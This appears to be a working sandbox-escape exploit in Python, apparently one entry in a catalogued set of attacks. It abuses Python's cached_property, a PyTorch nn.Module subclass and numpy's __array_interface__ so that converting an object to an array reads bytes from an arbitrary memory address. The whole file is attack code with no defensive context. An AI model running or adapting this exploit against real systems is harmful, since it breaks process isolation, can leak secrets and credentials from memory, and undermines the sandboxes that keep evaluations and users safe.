"""Class: memory. Source: own find. Escape: memory outside is read: the register comes from a class of the
attack's own that derives from nothing, and that a subclass of Module derives from as well."""

import functools

import numpy as np
from torch import nn

at = []


class Mixin:
    @functools.cached_property
    def _modules(self):
        described = {"version": 3, "typestr": "|u1", "shape": (6,), "data": (at[0], True)}
        return {"__array_interface__": described}


def attack(model, tokenizer, address):
    at.append(address)

    class Register(Mixin, nn.Module):
        def __init__(self):
            pass

    register = Register()
    try:
        list(register.children())
    except TypeError:
        pass
    return bytes(np.array(register).tolist())
